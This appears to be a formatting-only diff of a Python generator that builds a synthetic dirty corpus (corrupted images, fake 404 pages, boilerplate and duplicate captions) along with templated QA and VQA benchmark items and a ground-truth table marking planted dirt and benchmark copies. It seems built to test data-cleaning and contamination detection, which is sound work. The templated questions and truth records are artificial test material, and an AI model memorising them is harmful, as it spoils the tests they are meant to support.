-     "only {factor} [differed|was different|changed] between [the groups|them]. The [first|second] group "
-     "{result}. [Which variable was manipulated|What did {name} vary|Which condition was changed]?", "factor"),
-    ("[According to the local chronicle of|The town records of|An old guidebook to] {city} [say that|state "
-     "that|report that] {group} moved {object} to {place} in {year}. [Which reason does the chronicle give for "
-     "moving|Why did they move|What was the reason for relocating] {object}?", "reason"),
-    ("[Which|What] {thing} was [first described|first recorded|named] by {name} after [an expedition|a long "
-     "journey|a field trip] to {region} in {year}[, and later named after the village where the first specimen "
-     "was kept| together with {name2}| with help from local guides]?", "person"),
-    ("A [water tank|rain barrel|cistern|reservoir] in {city} holds {n1} litres and [is filled at|receives] {n2} "
-     "litres per minute [while|but] a leak [removes|loses|drains] {n3} litres per minute. [How many minutes does "
-     "it take to fill the empty tank|How long until it is full|After how many minutes is it full]?", "number"),
-    ("{name} and {name2} [share a workshop|run a small business|work together] in {city} [that makes|making|"
-     "producing] {item}. {name} [makes|finishes|produces] {n1} [per day|a day|daily] and {name2} {n2}. [How many "
-     "{item} do they make together in|What is their joint output of {item} over|How many {item} are ready "
-     "after] {n3} days?", "number"),
-    ("[During|At] the [festival|harvest fair|spring parade] in {city} in {year}, {group} [carried|pulled|moved] "
-     "{object} from {place} to {place2}. [How long had it stood at|For how many years had it been kept at|How "
-     "many years had it spent at] {place} [before the festival|before that day|until then]?", "years"),
+    (
+        "[A train|An express|A night train|A freight train] [leaves|departs from|sets off from] {city} at {h1}:{m1} "
+        "and [travels|covers|runs] {n1} {unit} to {city2} [at an average speed of|averaging|at a steady] {n2} {unit} "
+        "[per hour|an hour]. [At what time does it reach|When does it arrive in|What time is it when it gets to] "
+        "{city2}?",
+        "time",
+    ),
+    (
+        "{name} [bought|ordered|purchased] {n1} {item} [for|at] {n2} {currency} each [at a market in|from a "
+        "workshop in|online from a shop in] {city} and [later sold|resold|sold] [all of them|the whole lot|every one "
+        "of them] in {city2} for {n3} {currency} each. [How much profit did {name} make|What was the total profit "
+        "of {name}|How much did {name} earn after costs]?",
+        "money",
+    ),
+    (
+        "[In an experiment run by|In a study led by|During a trial designed by] {name}, {n1} {organism} [were split "
+        "into two groups|were divided into two sets|went into two tanks] and [kept|observed|grown] for {n2} days; "
+        "only {factor} [differed|was different|changed] between [the groups|them]. The [first|second] group "
+        "{result}. [Which variable was manipulated|What did {name} vary|Which condition was changed]?",
+        "factor",
+    ),
+    (
+        "[According to the local chronicle of|The town records of|An old guidebook to] {city} [say that|state "
+        "that|report that] {group} moved {object} to {place} in {year}. [Which reason does the chronicle give for "
+        "moving|Why did they move|What was the reason for relocating] {object}?",
+        "reason",
+    ),
+    (
+        "[Which|What] {thing} was [first described|first recorded|named] by {name} after [an expedition|a long "
+        "journey|a field trip] to {region} in {year}[, and later named after the village where the first specimen "
+        "was kept| together with {name2}| with help from local guides]?",
+        "person",
+    ),
+    (
+        "A [water tank|rain barrel|cistern|reservoir] in {city} holds {n1} litres and [is filled at|receives] {n2} "
+        "litres per minute [while|but] a leak [removes|loses|drains] {n3} litres per minute. [How many minutes does "
+        "it take to fill the empty tank|How long until it is full|After how many minutes is it full]?",
+        "number",
+    ),
+    (
+        "{name} and {name2} [share a workshop|run a small business|work together] in {city} [that makes|making|"
+        "producing] {item}. {name} [makes|finishes|produces] {n1} [per day|a day|daily] and {name2} {n2}. [How many "
+        "{item} do they make together in|What is their joint output of {item} over|How many {item} are ready "
+        "after] {n3} days?",
+        "number",
+    ),
+    (
+        "[During|At] the [festival|harvest fair|spring parade] in {city} in {year}, {group} [carried|pulled|moved] "
+        "{object} from {place} to {place2}. [How long had it stood at|For how many years had it been kept at|How "
+        "many years had it spent at] {place} [before the festival|before that day|until then]?",
+        "years",
+    ),
 )
-_QA_EDITS = {"which": "what", "does": "did", "how": "so how", "the": "this", "many": "much", "later": "afterwards"}
+_QA_EDITS = {
+    "which": "what",
+    "does": "did",
+    "how": "so how",
+    "the": "this",
+    "many": "much",
+    "later": "afterwards",
+}
 
 
 @functools.lru_cache(maxsize=256)
@@ -1087,8 +1411,9 @@ def shard_plan(spec: CorpusSpec, source: str, shard: int) -> tuple[str, ...]:
     return tuple(plan)
 
 
-def _pick_original(spec: CorpusSpec, source: str, shard: int, i: int,
-                   rng: random.Random) -> tuple[str, int, int]:
+def _pick_original(
+    spec: CorpusSpec, source: str, shard: int, i: int, rng: random.Random
+) -> tuple[str, int, int]:
     """An earlier clean row to duplicate: same shard, or an earlier shard of the same family.
 
     "Earlier" follows the canonical order wds < parquet < jsonl, then shard, then row. Text
@@ -1167,8 +1492,10 @@ def _corrupt_bytes(rng: random.Random) -> bytes:
     """
     if rng.random() < 0.7:
         return b"\xff\xd8\xff\xe0" + rng.randbytes(rng.randint(500, 20000)).replace(b"\xff", b"\x00")
-    return (b"<!DOCTYPE html><html><head><title>404 Not Found</title></head><body><h1>Not Found</h1>"
-            b"<p>The requested URL was not found on this server.</p></body></html>\n")
+    return (
+        b"<!DOCTYPE html><html><head><title>404 Not Found</title></head><body><h1>Not Found</h1>"
+        b"<p>The requested URL was not found on this server.</p></body></html>\n"
+    )
 
 
 def apply_dirt(s: Sample, rng: random.Random, spec: CorpusSpec, source: str, shard: int, i: int) -> None:
@@ -1226,7 +1553,8 @@ def apply_dirt(s: Sample, rng: random.Random, spec: CorpusSpec, source: str, sha
         s.caption = rng.choice(("", " ", "  \n", "\t", None))
     elif kind == "boilerplate_caption":
         s.caption = rng.choice(BOILERPLATE_CAPTIONS).format(
-            img=f"IMG_{rng.randint(1000, 9999)}.JPG", dsc=f"DSC{rng.randint(10000, 99999)}.jpg")
+            img=f"IMG_{rng.randint(1000, 9999)}.JPG", dsc=f"DSC{rng.randint(10000, 99999)}.jpg"
+        )
     elif kind == "repeated_phrase":
         s.caption = " ".join([rng.choice(REPEATED_PHRASES)] * rng.randint(6, 25))
     elif kind == "non_english_caption":
@@ -1252,143 +1580,314 @@ def image_text_sample(spec: CorpusSpec, source: str, shard: int, i: int, kind: s
 
 _TOPICS = {
     "gardening": (
-        {"plant": ["tomatoes", "basil", "roses", "carrots", "lettuce", "strawberries", "sunflowers", "beans",
-                   "potatoes", "tulips", "peppers", "courgettes", "mint", "raspberries"],
-         "season": ["spring", "early summer", "autumn", "late winter", "midsummer"],
-         "tool": ["trowel", "watering can", "pair of shears", "garden fork", "wheelbarrow", "hoe"],
-         "soil": ["sandy", "heavy", "dry", "acidic", "wet", "stony"],
-         "pest": ["slugs", "aphids", "snails", "caterpillars", "pigeons"]},
-        ["Many gardeners start planting {plant} in {season}.",
-         "{Plant} need plenty of sunlight and regular watering.",
-         "If the soil is too {soil}, mix in some compost before planting {plant}.",
-         "A good {tool} is enough for most jobs in a small city garden.",
-         "Water the {plant} in the morning so the leaves can dry before night.",
-         "Our neighbour grows {plant} and {plant2} in large pots on the balcony.",
-         "Remove weeds every week, otherwise they will take over the beds next to the {plant}.",
-         "In {season}, cover young plants when the nights get cold.",
-         "{Pest} love young {plant}, so check the leaves every few days.",
-         "We lost half of our {plant} to {pest} last year.",
-         "A cheap {tool} broke after two weeks, so buy a sturdy one.",
-         "Harvest the {plant} before the first frost in {season}.",
-         "Planting {plant} next to {plant2} keeps some {pest} away.",
-         "The {soil} corner of the garden is only good for {plant}."]),
+        {
+            "plant": [
+                "tomatoes",
+                "basil",
+                "roses",
+                "carrots",
+                "lettuce",
+                "strawberries",
+                "sunflowers",
+                "beans",
+                "potatoes",
+                "tulips",
+                "peppers",
+                "courgettes",
+                "mint",
+                "raspberries",
+            ],
+            "season": ["spring", "early summer", "autumn", "late winter", "midsummer"],
+            "tool": ["trowel", "watering can", "pair of shears", "garden fork", "wheelbarrow", "hoe"],
+            "soil": ["sandy", "heavy", "dry", "acidic", "wet", "stony"],
+            "pest": ["slugs", "aphids", "snails", "caterpillars", "pigeons"],
+        },
+        [
+            "Many gardeners start planting {plant} in {season}.",
+            "{Plant} need plenty of sunlight and regular watering.",
+            "If the soil is too {soil}, mix in some compost before planting {plant}.",
+            "A good {tool} is enough for most jobs in a small city garden.",
+            "Water the {plant} in the morning so the leaves can dry before night.",
+            "Our neighbour grows {plant} and {plant2} in large pots on the balcony.",
+            "Remove weeds every week, otherwise they will take over the beds next to the {plant}.",
+            "In {season}, cover young plants when the nights get cold.",
+            "{Pest} love young {plant}, so check the leaves every few days.",
+            "We lost half of our {plant} to {pest} last year.",
+            "A cheap {tool} broke after two weeks, so buy a sturdy one.",
+            "Harvest the {plant} before the first frost in {season}.",
+            "Planting {plant} next to {plant2} keeps some {pest} away.",
+            "The {soil} corner of the garden is only good for {plant}.",
+        ],
+    ),
     "cooking": (
-        {"dish": ["tomato soup", "pancakes", "vegetable curry", "banana bread", "fried rice", "lentil stew",
-                  "potato salad", "apple pie", "mushroom risotto", "chickpea burgers"],
-         "ingredient": ["garlic", "onions", "fresh ginger", "butter", "lemon juice", "black pepper",
-                        "olive oil",
-                        "cumin", "parsley", "brown sugar", "sea salt", "chilli flakes"],
-         "time": ["ten minutes", "half an hour", "about an hour", "twenty minutes", "forty minutes"],
-         "tool": ["cast iron pan", "large pot", "baking tray", "blender", "sharp knife"]},
-        ["This recipe for {dish} is quick and cheap.",
-         "Start by frying the {ingredient} in a {tool}.",
-         "Add the {ingredient} and let everything simmer for {time}.",
-         "{Dish} tastes even better on the second day.",
-         "If you do not have {ingredient}, you can use {ingredient2} instead.",
-         "Serve the {dish} warm with a slice of bread.",
-         "Children usually like {dish} because it is mild and a little sweet.",
-         "Keep the leftovers in the fridge and eat them within three days.",
-         "A {tool} makes the {dish} much easier to prepare.",
-         "My grandmother always added a pinch of {ingredient} to her {dish}.",
-         "Let the {dish} rest for {time} before you cut it.",
-         "Too much {ingredient} will overpower the other flavours.",
-         "You can prepare the {dish} a day in advance.",
-         "Taste the {dish} and add more {ingredient} if needed."]),
+        {
+            "dish": [
+                "tomato soup",
+                "pancakes",
+                "vegetable curry",
+                "banana bread",
+                "fried rice",
+                "lentil stew",
+                "potato salad",
+                "apple pie",
+                "mushroom risotto",
+                "chickpea burgers",
+            ],
+            "ingredient": [
+                "garlic",
+                "onions",
+                "fresh ginger",
+                "butter",
+                "lemon juice",
+                "black pepper",
+                "olive oil",
+                "cumin",
+                "parsley",
+                "brown sugar",
+                "sea salt",
+                "chilli flakes",
+            ],
+            "time": ["ten minutes", "half an hour", "about an hour", "twenty minutes", "forty minutes"],
+            "tool": ["cast iron pan", "large pot", "baking tray", "blender", "sharp knife"],
+        },
+        [
+            "This recipe for {dish} is quick and cheap.",
+            "Start by frying the {ingredient} in a {tool}.",
+            "Add the {ingredient} and let everything simmer for {time}.",
+            "{Dish} tastes even better on the second day.",
+            "If you do not have {ingredient}, you can use {ingredient2} instead.",
+            "Serve the {dish} warm with a slice of bread.",
+            "Children usually like {dish} because it is mild and a little sweet.",
+            "Keep the leftovers in the fridge and eat them within three days.",
+            "A {tool} makes the {dish} much easier to prepare.",
+            "My grandmother always added a pinch of {ingredient} to her {dish}.",
+            "Let the {dish} rest for {time} before you cut it.",
+            "Too much {ingredient} will overpower the other flavours.",
+            "You can prepare the {dish} a day in advance.",
+            "Taste the {dish} and add more {ingredient} if needed.",
+        ],
+    ),
     "travel": (
-        {"city": ["Lisbon", "Kyoto", "Vienna", "Montreal", "Edinburgh", "Cape Town", "Valparaiso", "Tallinn",
-                  "Porto", "Hanoi", "Oaxaca", "Bergen"],
-         "place": ["the old harbour", "the central market", "a hill above the town", "the botanical garden",
-                   "the river bank", "the cathedral", "the fish market", "a small museum",
-                   "the old town walls"],
-         "transport": ["the tram", "a rented bicycle", "the night train", "a small ferry", "the local bus",
-                       "a taxi"],
-         "food": ["grilled fish", "street noodles", "fresh pastries", "local cheese", "spicy soup"]},
-        ["Last summer we spent a week in {city}.",
-         "The best way to get around {city} is {transport}.",
-         "In the evening we walked to {place} to watch the sunset.",
-         "Many visitors skip {place}, which is a pity.",
-         "We took {transport} to {place} and had lunch there.",
-         "Prices in {city} were lower than we had expected.",
-         "If you only have one day, start early and visit {place} first.",
-         "The locals were friendly and happy to give directions.",
-         "Do not leave {city} without trying the {food}.",
-         "Near {place} there is a stall that sells excellent {food}.",
-         "Our hotel was close to {place}, which saved us a lot of time.",
-         "It rained on the third day, so we spent the afternoon at {place}.",
-         "Tickets for {transport} can be bought at every kiosk.",
-         "We would happily go back to {city} next spring."]),
+        {
+            "city": [
+                "Lisbon",
+                "Kyoto",
+                "Vienna",
+                "Montreal",
+                "Edinburgh",
+                "Cape Town",
+                "Valparaiso",
+                "Tallinn",
+                "Porto",
+                "Hanoi",
+                "Oaxaca",
+                "Bergen",
+            ],
+            "place": [
+                "the old harbour",
+                "the central market",
+                "a hill above the town",
+                "the botanical garden",
+                "the river bank",
+                "the cathedral",
+                "the fish market",
+                "a small museum",
+                "the old town walls",
+            ],
+            "transport": [
+                "the tram",
+                "a rented bicycle",
+                "the night train",
+                "a small ferry",
+                "the local bus",
+                "a taxi",
+            ],
+            "food": ["grilled fish", "street noodles", "fresh pastries", "local cheese", "spicy soup"],
+        },
+        [
+            "Last summer we spent a week in {city}.",
+            "The best way to get around {city} is {transport}.",
+            "In the evening we walked to {place} to watch the sunset.",
+            "Many visitors skip {place}, which is a pity.",
+            "We took {transport} to {place} and had lunch there.",
+            "Prices in {city} were lower than we had expected.",
+            "If you only have one day, start early and visit {place} first.",
+            "The locals were friendly and happy to give directions.",
+            "Do not leave {city} without trying the {food}.",
+            "Near {place} there is a stall that sells excellent {food}.",
+            "Our hotel was close to {place}, which saved us a lot of time.",
+            "It rained on the third day, so we spent the afternoon at {place}.",
+            "Tickets for {transport} can be bought at every kiosk.",
+            "We would happily go back to {city} next spring.",
+        ],
+    ),
     "technology": (
-        {"device": ["laptop", "phone", "router", "smart watch", "tablet", "games console", "printer",
-                    "headset"],
-         "problem": ["the battery drains quickly", "the screen flickers", "the connection keeps dropping",
-                     "updates fail", "the fan is loud", "the device gets hot"],
-         "fix": ["restarting it", "updating the firmware", "resetting the network settings",
-                 "cleaning the charging port", "removing old apps", "replacing the cable"],
-         "brand": ["a small start-up", "a large manufacturer", "a budget brand", "an open hardware project"]},
-        ["A common complaint about a new {device} is that {problem}.",
-         "In most cases {fix} solves the problem.",
-         "Before you buy a new {device}, check how long it will receive updates.",
-         "Our test {device} lasted almost two days on a single charge.",
-         "If {problem}, try {fix} before calling support.",
-         "Reviews often ignore how easy a {device} is to repair.",
-         "Keep a backup of your data in case the {device} stops working.",
-         "Cheaper models are often good enough for everyday use.",
-         "The {device} we tested was made by {brand}.",
-         "Some users report that {problem} after the latest update.",
-         "Support suggested {fix}, which worked for us.",
-         "A second-hand {device} can be a good deal if the seller is honest.",
-         "Battery life matters more than raw speed for most people.",
-         "We will publish a longer review of the {device} next month."]),
+        {
+            "device": [
+                "laptop",
+                "phone",
+                "router",
+                "smart watch",
+                "tablet",
+                "games console",
+                "printer",
+                "headset",
+            ],
+            "problem": [
+                "the battery drains quickly",
+                "the screen flickers",
+                "the connection keeps dropping",
+                "updates fail",
+                "the fan is loud",
+                "the device gets hot",
+            ],
+            "fix": [
+                "restarting it",
+                "updating the firmware",
+                "resetting the network settings",
+                "cleaning the charging port",
+                "removing old apps",
+                "replacing the cable",
+            ],
+            "brand": [
+                "a small start-up",
+                "a large manufacturer",
+                "a budget brand",
+                "an open hardware project",
+            ],
+        },
+        [
+            "A common complaint about a new {device} is that {problem}.",
+            "In most cases {fix} solves the problem.",
+            "Before you buy a new {device}, check how long it will receive updates.",
+            "Our test {device} lasted almost two days on a single charge.",
+            "If {problem}, try {fix} before calling support.",
+            "Reviews often ignore how easy a {device} is to repair.",
+            "Keep a backup of your data in case the {device} stops working.",
+            "Cheaper models are often good enough for everyday use.",
+            "The {device} we tested was made by {brand}.",
+            "Some users report that {problem} after the latest update.",
+            "Support suggested {fix}, which worked for us.",
+            "A second-hand {device} can be a good deal if the seller is honest.",
+            "Battery life matters more than raw speed for most people.",
+            "We will publish a longer review of the {device} next month.",
+        ],
+    ),
     "science": (
-        {"animal": ["octopus", "honey bee", "crow", "dolphin", "ant", "bat", "parrot", "squirrel",
-                    "zebrafish"],
-         "ability": ["solve simple puzzles", "recognise faces", "find their way home", "use tools",
-                     "communicate with each other", "remember places", "count small numbers"],
-         "place": ["the laboratory", "the wild", "a large aquarium", "a city park", "a field station"],
-         "method": ["video tracking", "small radio tags", "food rewards", "long-term observation"]},
-        ["Researchers have shown that the {animal} can {ability}.",
-         "Experiments in {place} suggest that this behaviour is learned.",
-         "The {animal} is often underestimated by people.",
-         "Scientists still argue about how the {animal} manages to {ability}.",
-         "Observations in {place} took more than three years.",
-         "Some results were surprising even for experienced biologists.",
-         "Further studies will compare the {animal} with the {animal2}.",
-         "The findings were published in a peer-reviewed journal.",
-         "The team used {method} to follow each {animal}.",
-         "Without {method}, the study would not have been possible.",
-         "Young animals learned to {ability} faster than adults.",
-         "Critics point out that {place} is very different from natural conditions.",
-         "The next experiment will test whether the {animal} can {ability} in {place}.",
-         "Similar abilities have been reported for the {animal2}."]),
+        {
+            "animal": [
+                "octopus",
+                "honey bee",
+                "crow",
+                "dolphin",
+                "ant",
+                "bat",
+                "parrot",
+                "squirrel",
+                "zebrafish",
+            ],
+            "ability": [
+                "solve simple puzzles",
+                "recognise faces",
+                "find their way home",
+                "use tools",
+                "communicate with each other",
+                "remember places",
+                "count small numbers",
+            ],
+            "place": ["the laboratory", "the wild", "a large aquarium", "a city park", "a field station"],
+            "method": ["video tracking", "small radio tags", "food rewards", "long-term observation"],
+        },
+        [
+            "Researchers have shown that the {animal} can {ability}.",
+            "Experiments in {place} suggest that this behaviour is learned.",
+            "The {animal} is often underestimated by people.",
+            "Scientists still argue about how the {animal} manages to {ability}.",
+            "Observations in {place} took more than three years.",
+            "Some results were surprising even for experienced biologists.",
+            "Further studies will compare the {animal} with the {animal2}.",
+            "The findings were published in a peer-reviewed journal.",
+            "The team used {method} to follow each {animal}.",
+            "Without {method}, the study would not have been possible.",
+            "Young animals learned to {ability} faster than adults.",
+            "Critics point out that {place} is very different from natural conditions.",
+            "The next experiment will test whether the {animal} can {ability} in {place}.",
+            "Similar abilities have been reported for the {animal2}.",
+        ],
+    ),
 }
-_OPENERS = ("", "", "", "", "In my experience, ", "Honestly, ", "As many readers know, ", "Of course, ",
-            "To be fair, ", "Interestingly, ", "Most of the time, ", "Last time, ")
-_CLOSERS = ("", "", "", "", " at least in our experience", " which surprised us", " as far as we can tell",
-            " according to several readers", " if you ask me", " once again")
+_OPENERS = (
+    "",
+    "",
+    "",
+    "",
+    "In my experience, ",
+    "Honestly, ",
+    "As many readers know, ",
+    "Of course, ",
+    "To be fair, ",
+    "Interestingly, ",
+    "Most of the time, ",
+    "Last time, ",
+)
+_CLOSERS = (
+    "",
+    "",
+    "",
+    "",
+    " at least in our experience",
+    " which surprised us",
+    " as far as we can tell",
+    " according to several readers",
+    " if you ask me",
+    " once again",
+)
 _FOREIGN_TEXT = {
     "de": (
-        {"stadt": ["Berlin", "Hamburg", "München", "Leipzig", "Köln"],
-         "ding": ["das Fahrrad", "der Garten", "die Küche", "das Wetter", "der Markt"]},
-        ["Am Wochenende waren wir in {stadt} unterwegs.", "Das Wetter war besser als erwartet.",
-         "In {stadt} gibt es viele kleine Cafés und Buchläden.", "Besonders gefallen hat uns {ding}.",
-         "Die Preise sind in den letzten Jahren deutlich gestiegen.",
-         "Viele Menschen fahren dort mit dem Rad zur Arbeit.",
-         "Im Sommer finden zahlreiche Konzerte im Freien statt.",
-         "Wir möchten im nächsten Jahr wiederkommen."]),
+        {
+            "stadt": ["Berlin", "Hamburg", "München", "Leipzig", "Köln"],
+            "ding": ["das Fahrrad", "der Garten", "die Küche", "das Wetter", "der Markt"],
+        },
+        [
+            "Am Wochenende waren wir in {stadt} unterwegs.",
+            "Das Wetter war besser als erwartet.",
+            "In {stadt} gibt es viele kleine Cafés und Buchläden.",
+            "Besonders gefallen hat uns {ding}.",
+            "Die Preise sind in den letzten Jahren deutlich gestiegen.",
+            "Viele Menschen fahren dort mit dem Rad zur Arbeit.",
+            "Im Sommer finden zahlreiche Konzerte im Freien statt.",
+            "Wir möchten im nächsten Jahr wiederkommen.",
+        ],
+    ),
     "fr": (
-        {"ville": ["Paris", "Lyon", "Marseille", "Bordeaux", "Lille"],
-         "plat": ["la soupe à l'oignon", "les crêpes", "le gratin dauphinois", "la ratatouille"]},
-        ["Nous avons passé quelques jours à {ville}.", "Le marché du samedi est très animé.",
-         "Il faut absolument goûter {plat}.", "Les transports en commun sont pratiques et peu chers.",
-         "Le soir, les terrasses sont pleines de monde.", "À {ville}, on peut tout visiter à pied.",
-         "La recette de {plat} est simple mais demande du temps.",
-         "Nous reviendrons certainement l'année prochaine."]),
+        {
+            "ville": ["Paris", "Lyon", "Marseille", "Bordeaux", "Lille"],
+            "plat": ["la soupe à l'oignon", "les crêpes", "le gratin dauphinois", "la ratatouille"],
+        },
+        [
+            "Nous avons passé quelques jours à {ville}.",
+            "Le marché du samedi est très animé.",
+            "Il faut absolument goûter {plat}.",
+            "Les transports en commun sont pratiques et peu chers.",
+            "Le soir, les terrasses sont pleines de monde.",
+            "À {ville}, on peut tout visiter à pied.",
+            "La recette de {plat} est simple mais demande du temps.",
+            "Nous reviendrons certainement l'année prochaine.",
+        ],
+    ),
     "zh": (
         {"city": ["北京", "上海", "杭州", "成都", "西安"], "food": ["饺子", "火锅", "包子", "面条"]},
-        ["上个周末我们去了{city}旅行。", "那里的天气比我们想象的要好。",
-         "{city}有很多历史悠久的建筑。", "我们在小饭馆里吃了{food}，味道非常好。",
-         "坐地铁去市中心很方便。", "晚上的街道很热闹，到处都是行人。",
-         "当地人很友好，经常给我们指路。", "我们打算明年再去一次。"]),
+        [
+            "上个周末我们去了{city}旅行。",
+            "那里的天气比我们想象的要好。",
+            "{city}有很多历史悠久的建筑。",
+            "我们在小饭馆里吃了{food}，味道非常好。",
+            "坐地铁去市中心很方便。",
+            "晚上的街道很热闹，到处都是行人。",
+            "当地人很友好，经常给我们指路。",
+            "我们打算明年再去一次。",
+        ],
+    ),
 }
 _BOILERPLATE_LINES = (
     "We use cookies to improve your experience on our website.",
@@ -1515,13 +2014,19 @@ def text_document(spec: CorpusSpec, shard: int, i: int, kind: str) -> tuple[dict
 
 _INTROS = (
     "This week in our drawing class we looked at simple pictures made from basic shapes and bright colours.",
-    ("Children's art often starts with circles, squares and triangles. "
-     "Here are a few examples from our collection."),
+    (
+        "Children's art often starts with circles, squares and triangles. "
+        "Here are a few examples from our collection."
+    ),
     "The following examples come from a worksheet about colours and shapes.",
     "Street signs and simple pictures are a good way to practise reading and naming colours.",
 )
-_LEADS = ("The next picture shows {c}.", "Take a look at this image: {c}.", "Here we have {c}.",
-          "In the image below you can see {c}.")
+_LEADS = (
+    "The next picture shows {c}.",
+    "Take a look at this image: {c}.",
+    "Here we have {c}.",
+    "In the image below you can see {c}.",
+)
 _FILLERS = (
     "Drawing with simple shapes trains the eye and the hand at the same time.",
     "Try to name every colour you see before reading on.",
@@ -1540,8 +2045,10 @@ def _describe_paragraph(scene: dict, rng: random.Random) -> str:
     sentences = [_cap(rng.choice(_LEADS).format(c=scene_phrase_en(scene, rng)))]
     if scene["kind"] == "shapes":
         total = sum(n for _, _, n, _ in scene["groups"])
-        sentences.append(f"There {'is' if total == 1 else 'are'} {NUMBERS_EN[total]} "
-                         f"shape{'' if total == 1 else 's'} in total.")
+        sentences.append(
+            f"There {'is' if total == 1 else 'are'} {NUMBERS_EN[total]} "
+            f"shape{'' if total == 1 else 's'} in total."
+        )
         shape, colour, n, _ = rng.choice(scene["groups"])
         sentences.append(f"The {shape} is {colour}." if n == 1 else f"The {_plural(shape)} are all {colour}.")
     elif scene["kind"] == "sign":
@@ -1558,8 +2065,9 @@ def _describe_paragraph(scene: dict, rng: random.Random) -> str:
     return " ".join(sentences)
 
 
-def interleaved_document(spec: CorpusSpec, shard: int, i: int,
-                         kind: str = "clean") -> tuple[dict, list[tuple[str, bytes]], str | None]:
+def interleaved_document(
+    spec: CorpusSpec, shard: int, i: int, kind: str = "clean"
+) -> tuple[dict, list[tuple[str, bytes]], str | None]:
     """An OBELICS-style document: aligned texts/images lists, each image described next to it.
 
     ``benchmark_copy``: one image is a transformed benchmark image (:func:`plant_image`) and its
@@ -1615,22 +2123,46 @@ def interleaved_document(spec: CorpusSpec, shard: int, i: int,
 # Shard writers (one per format)
 # --------------------------------------------------------------------------------------------
 
-TRUTH_SCHEMA = pa.schema([
-    ("file", pa.string()), ("offset", pa.int64()), ("key", pa.string()), ("source", pa.string()),
-    ("dirt", pa.string()), ("dup_of", pa.string()), ("bench_item", pa.string()),
-])
-WDS_META_SCHEMA = pa.schema([
-    ("key", pa.string()), ("caption", pa.string()), ("url", pa.string()),
-    ("width", pa.int32()), ("height", pa.int32()), ("status", pa.string()),
-])
-PARQUET_SCHEMA = pa.schema([
-    ("key", pa.string()), ("caption", pa.string()), ("image", pa.binary()), ("url", pa.string()),
-    ("width", pa.int32()), ("height", pa.int32()),
-])
-BENCH_SCHEMA = pa.schema([
-    ("item_id", pa.string()), ("question", pa.string()), ("answer", pa.string()),
-    ("options", pa.list_(pa.string())), ("image", pa.binary()),
-])
+TRUTH_SCHEMA = pa.schema(
+    [
+        ("file", pa.string()),
+        ("offset", pa.int64()),
+        ("key", pa.string()),
+        ("source", pa.string()),
+        ("dirt", pa.string()),
+        ("dup_of", pa.string()),
+        ("bench_item", pa.string()),
+    ]
+)
+WDS_META_SCHEMA = pa.schema(
+    [
+        ("key", pa.string()),
+        ("caption", pa.string()),
+        ("url", pa.string()),
+        ("width", pa.int32()),
+        ("height", pa.int32()),
+        ("status", pa.string()),
+    ]
+)
+PARQUET_SCHEMA = pa.schema(
+    [
+        ("key", pa.string()),
+        ("caption", pa.string()),
+        ("image", pa.binary()),
+        ("url", pa.string()),
+        ("width", pa.int32()),
+        ("height", pa.int32()),
+    ]
+)
+BENCH_SCHEMA = pa.schema(
+    [
+        ("item_id", pa.string()),
+        ("question", pa.string()),
+        ("answer", pa.string()),
+        ("options", pa.list_(pa.string())),
+        ("image", pa.binary()),
+    ]
+)
 
 
 @dataclass
@@ -1643,8 +2175,15 @@ class ShardResult:
     images: int = 0  # loose image files written next to JSONL
 
 
-def _truth(rel: str, offset: int, key: str, source: str, dirt: str, dup_of: str | None = None,
-           bench: str | None = None) -> tuple:
+def _truth(
+    rel: str,
+    offset: int,
+    key: str,
+    source: str,
+    dirt: str,
+    dup_of: str | None = None,
+    bench: str | None = None,
+) -> tuple:
     return (rel, offset, key, source, dirt, dup_of, bench)
 
 
@@ -1664,8 +2203,14 @@ def write_wds_shard(out: Path, spec: CorpusSpec, shard: int) -> ShardResult:
     with tarfile.open(out / rel, "w", format=tarfile.USTAR_FORMAT) as tar:
         for i, kind in enumerate(shard_plan(spec, "wds", shard)):
             s = image_text_sample(spec, "wds", shard, i, kind)
-            info = {"key": s.key, "caption": s.caption_text, "url": SOURCE_URL["wds"].format(key=s.key),
-                    "width": s.width, "height": s.height, "status": "success"}
+            info = {
+                "key": s.key,
+                "caption": s.caption_text,
+                "url": SOURCE_URL["wds"].format(key=s.key),
+                "width": s.width,
+                "height": s.height,
+                "status": "success",
+            }
             members = {s.ext: s.image, "json": json.dumps(info, ensure_ascii=False).encode()}
             if s.caption is not None:
                 members["txt"] = s.caption if isinstance(s.caption, bytes) else s.caption.encode()
@@ -1687,8 +2232,14 @@ def write_parquet_shard(out: Path, spec: CorpusSpec, shard: int) -> ShardResult:
         plan = shard_plan(spec, "parquet", shard)
         for i, kind in enumerate(plan):
             s = image_text_sample(spec, "parquet", shard, i, kind)
-            row = {"key": s.key, "caption": s.caption_text, "image": s.image,
-                   "url": SOURCE_URL["parquet"].format(key=s.key), "width": s.width, "height": s.height}
+            row = {
+                "key": s.key,
+                "caption": s.caption_text,
+                "image": s.image,
+                "url": SOURCE_URL["parquet"].format(key=s.key),
+                "width": s.width,
+                "height": s.height,
+            }
             for name, column in buf.items():
                 column.append(row[name])
             res.truth.append(_truth(rel, i, s.key, "parquet", kind, s.dup_of, s.bench_item))
@@ -1752,8 +2303,9 @@ def write_text_shard(out: Path, spec: CorpusSpec, shard: int) -> ShardResult:
 def write_benchmark(out: Path, spec: CorpusSpec, shard: int = 0) -> ShardResult:
     """The VQA benchmark as Parquet (PNG bytes inline) and as a JSONL twin with PNG files; the text QA
     benchmark as JSONL (MMLU-style: id, question, choices, answer letter)."""
-    res = ShardResult("benchmark", 0, 0, files=["benchmark/vqa.parquet", "benchmark/vqa.jsonl",
-                                                   "benchmark/qa.jsonl"])
+    res = ShardResult(
+        "benchmark", 0, 0, files=["benchmark/vqa.parquet", "benchmark/vqa.jsonl", "benchmark/qa.jsonl"]
+    )
     with open(out / "benchmark/qa.jsonl", "w", encoding="utf-8") as f:
         for k in range(spec.bench_items):
             f.write(json.dumps(bench_qa_item(spec.seed, k), ensure_ascii=False) + "\n")
@@ -1761,8 +2313,11 @@ def write_benchmark(out: Path, spec: CorpusSpec, shard: int = 0) -> ShardResult:
     with parquet as writer, open(out / "benchmark/vqa.jsonl", "w", encoding="utf-8") as f:
         for start in range(0, spec.bench_items, 100):
             items = [bench_item(spec.seed, k) for k in range(start, min(spec.bench_items, start + 100))]
-            writer.write_table(pa.table({name: [it[name] for it in items] for name in BENCH_SCHEMA.names},
-                                        schema=BENCH_SCHEMA))
+            writer.write_table(
+                pa.table(
+                    {name: [it[name] for it in items] for name in BENCH_SCHEMA.names}, schema=BENCH_SCHEMA
+                )
+            )
             for it in items:
                 image_rel = f"images/{it['item_id']}.png"
                 (out / "benchmark" / image_rel).write_bytes(it["image"])
